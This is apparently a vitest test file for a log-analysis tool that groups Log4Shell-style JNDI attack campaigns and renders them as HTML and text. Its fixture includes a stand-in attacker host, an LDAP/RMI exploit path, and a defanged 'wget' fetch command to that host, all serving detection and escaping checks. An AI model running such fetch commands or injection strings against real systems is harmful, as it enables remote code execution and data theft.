import { expect, test } from 'vitest'
import { type Campaign, instant } from '../../core/index.ts'
import { paletteFor } from '../text/palette.ts'
import { showCampaigns } from '../text/show-campaigns.ts'
import { campaignTable } from './campaign-table.ts'

const campaign: Campaign = {
  id: 'c-0123456789abcdef',
  host: '*.evil.example',
  port: 1_389,
  path: 'Basic/Command/Base64/*',
  command: 'wget hxxp://evil[.]example/<b>',
  schemes: ['ldap', 'rmi'],
  attacks: 12,
  outcome: 'callback-seen',
  likely: 3,
  callbackSeen: 2,
  firstSeen: instant('2021-12-10T12:43:11Z'),
  lastSeen: instant('2021-12-11T12:43:11Z'),
  sources: { names: ['a', 'b', 'c', 'd'].map((name) => ({ name, count: 2 })), others: 4 },
  targets: { names: [{ name: 'access.log', count: 12 }], others: 0 },
  techniques: { names: [{ name: 'in plain letters', count: 12 }], others: 0 },
  secrets: ['env:SECRET'],
  scanner: null,
}

test('a campaign is a row that says whom it asks, how far it came, from whom, and what leaks', () => {
  const html = campaignTable([campaign])

  expect(html).toContain('<code>ldap, rmi://*.evil.example:1389/Basic/Command/Base64/*</code>')
  expect(html).toContain('>callback seen</span> <span class="soft">of 2</span>')
  expect(html).toContain('<code>env:SECRET</code>')
  expect(html).toContain(
    '<summary>1 more</summary><ul><li>d <span class="soft">× 2</span></li><li class="soft">and 4 of others</li></ul>',
  )
  expect(html).not.toContain('<b>')
})

test('in text it takes three lines', () => {
  const lines = [...showCampaigns([campaign], paletteFor(false))]

  expect(lines).toEqual([
    'Campaigns',
    '       12 × ldap, rmi://*.evil.example:1389/Basic/Command/Base64/*  CALLBACK SEEN (2)',
    '            2021-12-10 12:43:11 to 2021-12-11 12:43:11 UTC; from a, b, c and 1 or more others; in access.log',
    '            carries wget hxxp://evil[.]example/<b>',
    '',
  ])
})

test('what is one attack alone is no table, unless something was seen of it', () => {
  const alone: Campaign = { ...campaign, attacks: 1, outcome: 'attempt', likely: 0, callbackSeen: 0 }

  expect([...showCampaigns([alone], paletteFor(false))]).toEqual([])
  expect([...showCampaigns([{ ...alone, outcome: 'likely', likely: 1 }], paletteFor(false))]).not.toEqual([])
})
